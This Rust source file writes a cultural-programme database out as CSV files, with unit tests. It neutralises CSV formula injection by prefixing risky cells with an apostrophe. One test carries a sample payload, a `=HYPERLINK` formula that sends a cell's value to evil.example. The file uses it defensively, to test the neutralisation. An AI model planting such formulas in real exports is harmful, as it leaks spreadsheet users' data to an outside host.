//! The canonical CSV of every table: `data/<table>.csv` with DESIGN.md's English headers in
//! their documented order, `|` between the values of a multi-valued cell, ISO dates, `yes`/`no`,
//! UTF-8 without BOM, RFC 4180 quoting and CRLF line ends. `load` reads these files back as they
//! are, so the export doubles as a normalised copy of the input. Also `data/vocabulary.csv`:
//! every code of every vocabulary with its labels, to decode the code columns.
//!
//! A coordinator opens these files in a spreadsheet, which runs a cell starting with `=`, `+`,
//! `-`, `@`, a tab or a carriage return as a formula (`=HYPERLINK(…)` in a title would be a
//! live link): such a cell is written with a leading `'` ([`neutralise`], OWASP's advice for
//! CSV injection), except a plain number such as `-0.57`. That `'` is the one change from the
//! input the export makes.

use crate::model::{Charter, DistrictScope};
use crate::vocabulary::GROUPS;
use anyhow::{Context, Result};
use chrono::NaiveDate;
use std::fmt::Display;
use std::io::Write;

/// `data/districts.csv` headers.
pub const DISTRICTS: [&str; 8] = ["id", "name", "city", "summary", "lat", "lon", "population", "priority"];
/// `data/operators.csv` headers.
pub const OPERATORS: [&str; 16] = [
    "id",
    "name",
    "kind",
    "district",
    "address",
    "postcode",
    "city",
    "lat",
    "lon",
    "website",
    "email",
    "phone",
    "summary",
    "description",
    "signed_charter_on",
    "updated_on",
];
/// `data/venues.csv` headers.
pub const VENUES: [&str; 14] = [
    "id",
    "name",
    "kind",
    "district",
    "address",
    "postcode",
    "city",
    "lat",
    "lon",
    "operator",
    "accessibility",
    "opening_hours",
    "website",
    "updated_on",
];
/// `data/offers.csv` headers.
pub const OFFERS: [&str; 22] = [
    "id",
    "title",
    "operator",
    "partners",
    "disciplines",
    "audiences",
    "age_min",
    "age_max",
    "districts",
    "venue",
    "starts_on",
    "ends_on",
    "schedule",
    "price",
    "price_detail",
    "booking",
    "accessibility",
    "languages",
    "summary",
    "description",
    "status",
    "updated_on",
];
/// `data/partnerships.csv` headers.
pub const PARTNERSHIPS: [&str; 9] =
    ["id", "title", "operators", "offers", "districts", "starts_on", "ends_on", "summary", "description"];
/// `data/vocabulary.csv` headers.
pub const VOCABULARY: [&str; 4] = ["group", "code", "label_fr", "label_en"];

/// The tables' site paths, in DESIGN.md's order.
pub const FILES: [&str; 6] = [
    "data/districts.csv",
    "data/operators.csv",
    "data/venues.csv",
    "data/offers.csv",
    "data/partnerships.csv",
    "data/vocabulary.csv",
];

/// Writes the table at `path` (one of [`FILES`]) to `w`.
pub fn write(path: &str, charter: &Charter, w: &mut dyn Write) -> Result<()> {
    match path {
        "data/districts.csv" => table(
            w,
            &DISTRICTS,
            charter.districts.iter().map(|d| {
                vec![
                    d.id.clone(),
                    d.name.clone(),
                    d.city.clone(),
                    d.summary.clone(),
                    opt(d.lat),
                    opt(d.lon),
                    opt(d.population),
                    yes_no(d.priority),
                ]
            }),
        ),
        "data/operators.csv" => table(
            w,
            &OPERATORS,
            charter.operators.iter().map(|o| {
                vec![
                    o.id.clone(),
                    o.name.clone(),
                    o.kind.clone(),
                    opt(o.district.as_ref()),
                    o.address.clone(),
                    o.postcode.clone(),
                    o.city.clone(),
                    opt(o.lat),
                    opt(o.lon),
                    opt(o.website.as_ref()),
                    opt(o.email.as_ref()),
                    opt(o.phone.as_ref()),
                    o.summary.clone(),
                    o.description.clone(),
                    date(o.signed_charter_on),
                    date(o.updated_on),
                ]
            }),
        ),
        "data/venues.csv" => table(
            w,
            &VENUES,
            charter.venues.iter().map(|v| {
                vec![
                    v.id.clone(),
                    v.name.clone(),
                    v.kind.clone(),
                    opt(v.district.as_ref()),
                    v.address.clone(),
                    v.postcode.clone(),
                    v.city.clone(),
                    opt(v.lat),
                    opt(v.lon),
                    opt(v.operator.as_ref()),
                    multi(&v.accessibility),
                    v.opening_hours.clone(),
                    opt(v.website.as_ref()),
                    date(v.updated_on),
                ]
            }),
        ),
        "data/offers.csv" => table(
            w,
            &OFFERS,
            charter.offers.iter().map(|o| {
                vec![
                    o.id.clone(),
                    o.title.clone(),
                    o.operator.clone(),
                    multi(&o.partners),
                    multi(&o.disciplines),
                    multi(&o.audiences),
                    opt(o.age_min),
                    opt(o.age_max),
                    scope(&o.districts),
                    opt(o.venue.as_ref()),
                    date(o.starts_on),
                    date(o.ends_on),
                    o.schedule.clone(),
                    opt(o.price.map(|p| p.code())),
                    o.price_detail.clone(),
                    o.booking.clone(),
                    multi(&o.accessibility),
                    multi(&o.languages),
                    o.summary.clone(),
                    o.description.clone(),
                    o.status.code().to_owned(),
                    date(o.updated_on),
                ]
            }),
        ),
        "data/partnerships.csv" => table(
            w,
            &PARTNERSHIPS,
            charter.partnerships.iter().map(|p| {
                vec![
                    p.id.clone(),
                    p.title.clone(),
                    multi(&p.operators),
                    multi(&p.offers),
                    multi(&p.districts),
                    date(p.starts_on),
                    date(p.ends_on),
                    p.summary.clone(),
                    p.description.clone(),
                ]
            }),
        ),
        "data/vocabulary.csv" => table(
            w,
            &VOCABULARY,
            GROUPS.iter().flat_map(|&group| {
                let terms = charter.vocabularies.group(group).map(|v| v.terms.as_slice()).unwrap_or_default();
                terms.iter().map(move |t| vec![group.to_owned(), t.code.clone(), t.fr.clone(), t.en.clone()])
            }),
        ),
        other => anyhow::bail!("no table is exported as `{other}` (a program error)"),
    }
}

/// One CSV file: the header row, then `rows`.
fn table(w: &mut dyn Write, headers: &[&str], rows: impl Iterator<Item = Vec<String>>) -> Result<()> {
    let mut writer = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(w);
    writer.write_record(headers).context("failed to write a CSV header")?;
    for row in rows {
        let row: Vec<_> = row.iter().map(|cell| neutralise(cell)).collect();
        writer.write_record(row.iter().map(|cell| cell.as_bytes())).context("failed to write a CSV row")?;
    }
    writer.flush().context("failed to finish a CSV table")
}

/// `cell`, prefixed with `'` when a spreadsheet would run it as a formula: it starts with `=`,
/// `+`, `-`, `@`, a tab or a carriage return and is not a plain number (`-0.57`, `+32`).
pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && !is_plain_number(cell) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// A sign, digits, at most one decimal point or comma with digits around it: what a
/// spreadsheet reads as a number, never as a formula.
fn is_plain_number(cell: &str) -> bool {
    let unsigned = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    let (whole, fraction) = unsigned.split_once(['.', ',']).unwrap_or((unsigned, "0"));
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    digits(whole) && digits(fraction)
}

/// An optional value, empty when absent.
fn opt<T: Display>(value: Option<T>) -> String {
    value.map(|v| v.to_string()).unwrap_or_default()
}

/// An ISO date, empty when absent.
fn date(value: Option<NaiveDate>) -> String {
    opt(value.map(|d| d.format("%Y-%m-%d")))
}

/// The values of a multi-valued cell, `|`-separated.
fn multi(values: &[String]) -> String {
    values.join("|")
}

fn yes_no(value: bool) -> String {
    if value { "yes" } else { "no" }.to_owned()
}

/// An offer's `districts` cell as written: empty (the venue's), `all`, or the listed ids.
fn scope(scope: &DistrictScope) -> String {
    match scope {
        DistrictScope::Venue => String::new(),
        DistrictScope::All => "all".to_owned(),
        DistrictScope::Listed(ids) => multi(ids),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::export::fixture;

    /// The rows of a CSV file, headers first.
    fn rows(bytes: &[u8]) -> Vec<Vec<String>> {
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(bytes);
        reader.records().map(|r| r.expect("record").iter().map(str::to_owned).collect()).collect()
    }

    // Every table has DESIGN.md's headers in order, and cells read back as written: multi-valued
    // cells with `|`, ISO dates, quotes, commas and line breaks intact.
    #[test]
    fn tables_round_trip_with_canonical_headers() {
        let charter = fixture::charter();
        let tables: Vec<(&str, Vec<u8>)> = FILES
            .iter()
            .map(|path| {
                let mut bytes = Vec::new();
                write(path, &charter, &mut bytes).expect("table");
                (*path, bytes)
            })
            .collect();
        let headers: [&[&str]; 6] = [&DISTRICTS, &OPERATORS, &VENUES, &OFFERS, &PARTNERSHIPS, &VOCABULARY];
        for ((path, bytes), expected) in tables.iter().zip(headers) {
            let rows = rows(bytes);
            assert_eq!(rows[0], expected, "{path}");
            assert!(rows.iter().all(|r| r.len() == expected.len()), "{path}: ragged");
            assert!(bytes.windows(2).any(|w| w == b"\r\n"), "{path}: CRLF");
        }
        let offers = rows(&tables[3].1);
        let col = |name: &str| OFFERS.iter().position(|h| *h == name).expect("column");
        let slam = offers.iter().find(|r| r[0] == "atelier-slam").expect("offer");
        assert_eq!(slam[col("title")], fixture::HOSTILE_TITLE);
        assert_eq!(slam[col("audiences")], "youth|adults");
        assert_eq!(slam[col("districts")], "bressoux|droixhe");
        assert_eq!(slam[col("starts_on")], "2026-11-25");
        assert_eq!(slam[col("price")], "free");
        assert_eq!(slam[col("description")], fixture::DESCRIPTION);
        let ongoing = offers.iter().find(|r| r[0] == "lecture-libre").expect("offer");
        assert_eq!(ongoing[col("districts")], "");
        assert_eq!(ongoing[col("starts_on")], "");
        let districts = rows(&tables[0].1);
        assert_eq!(districts[1][7], "yes");
        let vocabulary = rows(&tables[5].1);
        assert!(vocabulary.iter().flatten().all(|cell| !cell.starts_with('=')));
        assert!(vocabulary.contains(&vec![
            "discipline".into(),
            "theatre".into(),
            "Théâtre".into(),
            "Theatre".into()
        ]));
    }

    // Cells a spreadsheet would run as formulas read back with a leading `'`; numbers, even
    // negative, and ordinary text stay as they are.
    #[test]
    fn formulas_are_neutralised() {
        let mut charter = fixture::charter();
        let payload = "=HYPERLINK(\"http://evil.example/?\"&A2,\"Cliquez ici\")";
        let formulas = [payload, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "-", "-0.57x"];
        for (offer, formula) in charter.offers.iter_mut().zip(formulas.iter().cycle()) {
            offer.title = (*formula).to_owned();
            offer.summary = formulas.join(" ");
        }
        charter.districts[0].lon = Some(-0.57);
        charter.districts[0].summary = "+32 4 221 00 00".to_owned();
        let read = |path: &str| {
            let mut bytes = Vec::new();
            write(path, &charter, &mut bytes).expect("table");
            rows(&bytes)
        };
        let offers = read("data/offers.csv");
        let title = OFFERS.iter().position(|h| *h == "title").expect("column");
        for (row, formula) in offers[1..].iter().zip(formulas.iter().cycle()) {
            assert_eq!(row[title], format!("'{formula}"));
        }
        for row in &offers[1..] {
            for cell in row {
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
            }
        }
        let districts = read("data/districts.csv");
        assert_eq!(districts[1][5], "-0.57", "a negative number stays a number");
        assert_eq!(districts[1][3], "'+32 4 221 00 00", "a phone with spaces is not a number");
        assert_eq!(neutralise("-12,5"), "-12,5");
        assert_eq!(neutralise("Théâtre = joie"), "Théâtre = joie");
    }
}
